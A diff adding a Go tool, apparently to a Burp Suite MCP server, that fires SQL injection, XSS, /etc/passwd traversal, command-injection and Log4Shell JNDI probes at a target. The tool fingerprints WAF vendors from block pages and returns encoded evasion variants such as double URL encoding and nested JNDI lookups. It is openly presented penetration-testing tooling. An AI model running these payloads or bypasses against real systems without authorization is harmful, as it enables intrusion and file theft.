@@ -0,0 +1,346 @@
+package tools
+
+import (
+	"context"
+	"fmt"
+	"net/url"
+	"regexp"
+	"slices"
+	"strings"
+	"unicode"
+
+	"github.com/c0tton-fluff/burp-mcp-server/internal/burp"
+	"github.com/c0tton-fluff/burp-mcp-server/internal/config"
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+)
+
+// wafProbe is one request in the probe sequence. Probes with a header set
+// send value in that header instead of the parameter.
+type wafProbe struct {
+	name, class, value, header string
+}
+
+// wafProbes go from benign to increasingly obvious attacks. The benign
+// probe is the reference a block is judged against.
+var wafProbes = []wafProbe{
+	{name: "benign", value: "hello123"},
+	{name: "sqli", class: "sqli", value: "' OR 1=1-- -"},
+	{name: "sqli-union", class: "sqli", value: "1 UNION SELECT NULL,version()--"},
+	{name: "xss", class: "xss", value: "<script>alert(1)</script>"},
+	{name: "xss-event", class: "xss", value: `"><img src=x onerror=alert(1)>`},
+	{name: "traversal", class: "traversal", value: "../../../../etc/passwd"},
+	{name: "cmdi", class: "cmdi", value: ";cat /etc/passwd"},
+	{name: "jndi", class: "jndi", value: "${jndi:ldap://x.example/a}"},
+	{name: "scanner-agent", class: "scanner", header: "User-Agent", value: "sqlmap/1.7.2#stable (https://sqlmap.org)"},
+}
+
+// wafBlockStatuses are statuses WAFs answer blocked requests with.
+var wafBlockStatuses = []int{403, 406, 418, 419, 429, 501, 503}
+
+// wafBlockPages are block page and header signatures per vendor.
+var wafBlockPages = []struct {
+	vendor string
+	re     *regexp.Regexp
+}{
+	{"Cloudflare", regexp.MustCompile(`(?i)Attention Required! \| Cloudflare|cf-error-details|Cloudflare Ray ID`)},
+	{"AWS WAF", regexp.MustCompile(`(?i)Request blocked\.[\s\S]{0,400}Generated by cloudfront|aws-waf-token`)},
+	{"Akamai", regexp.MustCompile(`(?i)Access Denied[\s\S]{0,400}Reference #\d+\.[0-9a-f]+|AkamaiGHost`)},
+	{"Imperva Incapsula", regexp.MustCompile(`(?i)Incapsula incident ID|_Incapsula_Resource|Request unsuccessful\. Incapsula`)},
+	{"Sucuri", regexp.MustCompile(`(?i)Sucuri WebSite Firewall|sucuri\.net/privacy-policy`)},
+	{"F5 BIG-IP ASM", regexp.MustCompile(`(?i)The requested URL was rejected\. Please consult with your administrator|Your support ID is`)},
+	{"ModSecurity", regexp.MustCompile(`(?i)Mod_Security|This error was generated by Mod_Security|NOYB`)},
+	{"Barracuda", regexp.MustCompile(`(?i)barra_counter_session|Barracuda\.? ?(?:Web Application Firewall|Networks)`)},
+	{"FortiWeb", regexp.MustCompile(`(?i)FortiWeb|\.fgd_icon|FORTIWAFSID`)},
+	{"Azure WAF", regexp.MustCompile(`(?i)Microsoft-Azure-Application-Gateway|The request is blocked\.[\s\S]{0,200}X-Azure-Ref`)},
+	{"Wordfence", regexp.MustCompile(`(?i)Generated by Wordfence|This response was generated by Wordfence`)},
+	{"Citrix NetScaler", regexp.MustCompile(`(?i)NS Transaction ID|Citrix Application Firewall|ns_af=`)},
+	{"Wallarm", regexp.MustCompile(`(?i)nginx-wallarm`)},
+}
+
+// wafEncoding is an evasion transform and the probe classes it suits.
+type wafEncoding struct {
+	name, reason string
+	classes      []string
+	apply        func(string) string
+}
+
+// wafEncodings are ordered from least to most intrusive.
+var wafEncodings = []wafEncoding{
+	{"case-variation", "rules matching keywords case-sensitively miss mixed case", []string{"sqli", "xss"}, alternateCase},
+	{"sql-comment", "inline comments split keywords that rules match with whitespace", []string{"sqli"}, func(s string) string {
+		return strings.ReplaceAll(s, " ", "/**/")
+	}},
+	{"double-url", "the WAF decodes once while the application decodes twice", []string{"sqli", "xss", "traversal", "cmdi"}, func(s string) string {
+		var b strings.Builder
+		for _, c := range []byte(s) {
+			if c < 0x80 && (unicode.IsLetter(rune(c)) || unicode.IsDigit(rune(c))) {
+				b.WriteByte(c)
+			} else {
+				fmt.Fprintf(&b, "%%25%02X", c)
+			}
+		}
+		return b.String()
+	}},
+	{"html-entity", "reflected into HTML or attributes the browser decodes entities the WAF doesn't", []string{"xss"}, func(s string) string {
+		var b strings.Builder
+		for _, r := range s {
+			if strings.ContainsRune(`<>"'()=`, r) {
+				fmt.Fprintf(&b, "&#x%x;", r)
+			} else {
+				b.WriteRune(r)
+			}
+		}
+		return b.String()
+	}},
+	{"unicode-escape", `JSON bodies: \uXXXX escapes are decoded by the parser after inspection`, []string{"sqli", "xss", "traversal", "cmdi", "jndi"}, func(s string) string {
+		var b strings.Builder
+		for _, r := range s {
+			if unicode.IsLetter(r) || unicode.IsDigit(r) {
+				b.WriteRune(r)
+			} else {
+				fmt.Fprintf(&b, `\u%04x`, r)
+			}
+		}
+		return b.String()
+	}},
+	{"traversal-variants", "non-canonical separators and encodings of ../", []string{"traversal"}, func(s string) string {
+		return strings.ReplaceAll(s, "../", "..%c0%af")
+	}},
+	{"jndi-nesting", "nested lookups hide the jndi keyword", []string{"jndi"}, func(s string) string {
+		return strings.Replace(s, "${jndi:", "${${lower:j}ndi:", 1)
+	}},
+}
+
+func alternateCase(s string) string {
+	upper := false
+	return strings.Map(func(r rune) rune {
+		if !unicode.IsLetter(r) {
+			return r
+		}
+		upper = !upper
+		if upper {
+			return unicode.ToUpper(r)
+		}
+		return unicode.ToLower(r)
+	}, s)
+}
+
+// WAFDetectInput is the input for burp_waf_detect.
+type WAFDetectInput struct {
+	Raw           string `json:"raw" jsonschema:"required,Raw HTTP request for a normal page behind the suspected WAF"`
+	Param         string `json:"param,omitempty" jsonschema:"Parameter to carry the probes (default: q, added to the query)"`
+	In            string `json:"in,omitempty" jsonschema:"Where param lives: query or body (form-encoded). Default: wherever it already is, else query"`
+	Host          string `json:"host,omitempty" jsonschema:"Target host (overrides Host header)"`
+	Port          int    `json:"port,omitempty" jsonschema:"Target port (default based on TLS)"`
+	TLS           *bool  `json:"tls,omitempty" jsonschema:"Use HTTPS (default true)"`
+	HeaderProfile string `json:"headerProfile,omitempty" jsonschema:"Header rule profile from config (default: 'default')"`
+	Instance      string `json:"instance,omitempty" jsonschema:"Named Burp instance from config (default: the --burp-url connection)"`
+}
+
+// WAFProbeResult is the outcome of one probe.
+type WAFProbeResult struct {
+	Name       string `json:"name"`
+	Payload    string `json:"payload"`
+	StatusCode int    `json:"statusCode,omitempty"`
+	Length     int    `json:"length"`
+	Blocked    bool   `json:"blocked"`
+	Evidence   string `json:"evidence,omitempty"`
+	Error      string `json:"error,omitempty"`
+}
+
+// WAFVendor is a WAF product and why it was identified.
+type WAFVendor struct {
+	Name       string   `json:"name"`
+	Confidence string   `json:"confidence"`
+	Evidence   []string `json:"evidence"`
+}
+
+// WAFEvasion is a recommended encoding with the first blocked payload it
+// applies to, already transformed.
+type WAFEvasion struct {
+	Encoding string `json:"encoding"`
+	Reason   string `json:"reason"`
+	Payload  string `json:"payload"`
+	Example  string `json:"example"`
+}
+
+// WAFDetectOutput is the output of burp_waf_detect.
+type WAFDetectOutput struct {
+	Detected bool             `json:"detected"`
+	Vendors  []WAFVendor      `json:"vendors"`
+	Probes   []WAFProbeResult `json:"probes"`
+	Evasions []WAFEvasion     `json:"evasions"`
+}
+
+// wafBlocked judges a probe response against the benign one: a block
+// status the benign probe didn't get, or a known block page.
+func wafBlocked(resp *burp.ParsedHTTPResponse, benign int) (bool, string) {
+	text := headerBlob(resp) + resp.Body
+	for _, p := range wafBlockPages {
+		if m := p.re.FindString(text); m != "" {
+			return true, p.vendor + " block page: " + truncateEvidence(m)
+		}
+	}
+	if resp.StatusCode != benign && slices.Contains(wafBlockStatuses, resp.StatusCode) {
+		return true, fmt.Sprintf("status %d (benign %d)", resp.StatusCode, benign)
+	}
+	return false, ""
+}
+
+// headerBlob joins resp's headers as "Name: value" lines for matching.
+func headerBlob(resp *burp.ParsedHTTPResponse) string {
+	var b strings.Builder
+	for name, values := range resp.Headers {
+		for _, v := range values {
+			b.WriteString(name + ": " + v + "\n")
+		}
+	}
+	return b.String()
+}
+
+func wafDetectHandler(client *burp.Client) func(context.Context, *mcp.CallToolRequest, WAFDetectInput) (*mcp.CallToolResult, WAFDetectOutput, error) {
+	return func(ctx context.Context, _ *mcp.CallToolRequest, input WAFDetectInput) (*mcp.CallToolResult, WAFDetectOutput, error) {
+		ctx = burp.WithInstance(ctx, input.Instance)
+
+		param := input.Param
+		if param == "" {
+			param = "q"
+		}
+		rawNorm, parsed, err := prepareRequest(input.Raw, input.HeaderProfile)
+		if err != nil {
+			return nil, WAFDetectOutput{}, err
+		}
+		t, err := resolveTarget(input.Host, input.Port, input.TLS, parsed.Host)
+		if err != nil {
+			return nil, WAFDetectOutput{}, err
+		}
+		build := func(p wafProbe) (string, error) {
+			if p.header != "" {
+				return applyHeaderRules(rawNorm, config.HeaderRules{Set: map[string]string{p.header: p.value}}), nil
+			}
+			req, _, err := injectParam(rawNorm, param, url.QueryEscape(p.value), input.In)
+			return req, err
+		}
+
+		// Benign first: the probes after it are judged against its status.
+		results := make([]WAFProbeResult, len(wafProbes))
+		responses := make([]*burp.ParsedHTTPResponse, len(wafProbes))
+		send := func(i int) {
+			p := wafProbes[i]
+			results[i] = WAFProbeResult{Name: p.name, Payload: p.value}
+			if p.header != "" {
+				results[i].Payload = p.header + ": " + p.value
+			}
+			req, err := build(p)
+			if err != nil {
+				results[i].Error = err.Error()
+				return
+			}
+			resp, err := sendParsed(ctx, client, req, t, 0)
+			if err != nil {
+				results[i].Error = err.Error()
+				return
+			}
+			responses[i] = resp
+			results[i].StatusCode = resp.StatusCode
+			results[i].Length = resp.BodySize
+		}
+		send(0)
+		if results[0].Error != "" {
+			return nil, WAFDetectOutput{}, fmt.Errorf("benign probe failed: %s", results[0].Error)
+		}
+		benign := results[0].StatusCode
+		parallel(len(wafProbes)-1, func(i int) {
+			send(i + 1)
+			if r := responses[i+1]; r != nil {
+				results[i+1].Blocked, results[i+1].Evidence = wafBlocked(r, benign)
+			} else {
+				// A reset connection on an attack payload is a block too.
+				results[i+1].Blocked = true
+				results[i+1].Evidence = "connection failed: " + results[i+1].Error
+			}
+		})
+
+		out := WAFDetectOutput{Probes: results, Vendors: wafVendors(responses), Evasions: []WAFEvasion{}}
+		for _, r := range results[1:] {
+			if r.Blocked {
+				out.Detected = true
+			}
+		}
+		if len(out.Vendors) > 0 {
+			out.Detected = true
+		}
+		out.Evasions = wafEvasions(results)
+		return nil, out, nil
+	}
+}
+
+// wafVendors identifies vendors from block pages in any probe response and
+// from the WAF and edge signatures of burp_fingerprint.
+func wafVendors(responses []*burp.ParsedHTTPResponse) []WAFVendor {
+	byName := map[string]*WAFVendor{}
+	var order []string
+	add := func(name, confidence, evidence string) {
+		v := byName[name]
+		if v == nil {
+			v = &WAFVendor{Name: name, Confidence: confidence}
+			byName[name] = v
+			order = append(order, name)
+		}
+		if confidence == confCertain {
+			v.Confidence = confCertain
+		}
+		if !slices.Contains(v.Evidence, evidence) {
+			v.Evidence = append(v.Evidence, evidence)
+		}
+	}
+	for i, resp := range responses {
+		if resp == nil {
+			continue
+		}
+		text := headerBlob(resp) + resp.Body
+		for _, p := range wafBlockPages {
+			if m := p.re.FindString(text); m != "" {
+				add(p.vendor, confCertain, fmt.Sprintf("%s probe: %s", wafProbes[i].name, truncateEvidence(m)))
+			}
+		}
+		for _, tech := range fingerprint(resp, nil) {
+			if tech.Category == techWAF || tech.Category == techCDN && slices.Contains([]string{"Cloudflare", "Akamai"}, tech.Name) {
+				for _, e := range tech.Evidence {
+					add(tech.Name, confFirm, e)
+				}
+			}
+		}
+	}
+	vendors := []WAFVendor{}
+	for _, name := range order {
+		vendors = append(vendors, *byName[name])
+	}
+	return vendors
+}
+
+// wafEvasions recommends encodings for the classes that were blocked, each
+// shown applied to the first blocked payload of a matching class.
+func wafEvasions(results []WAFProbeResult) []WAFEvasion {
+	evasions := []WAFEvasion{}
+	for _, enc := range wafEncodings {
+		for i, r := range results {
+			if !r.Blocked || wafProbes[i].header != "" || !slices.Contains(enc.classes, wafProbes[i].class) {
+				continue
+			}
+			evasions = append(evasions, WAFEvasion{Encoding: enc.name, Reason: enc.reason, Payload: r.Payload, Example: enc.apply(r.Payload)})
+			break
+		}
+	}
+	return evasions
+}
+
+// RegisterWAFDetectTool registers the burp_waf_detect tool.
+func RegisterWAFDetectTool(server *mcp.Server, client *burp.Client) {
+	addTool(server, &mcp.Tool{
+		Name: "burp_waf_detect",
+		Description: `Send a benign probe, then SQLi, XSS, traversal, command injection, JNDI, and scanner User-Agent probes in a parameter, and judge each blocked or not against the benign response. ` +
+			`Identifies the WAF vendor from block pages, headers, and cookies, and recommends evasion encodings for the blocked payload classes, each with a transformed example. ` +
+			`Returns {detected, vendors: [{name, confidence, evidence}], probes: [{name, payload, statusCode, length, blocked, evidence}], evasions: [{encoding, reason, payload, example}]}.`,
+	}, wafDetectHandler(client))
+}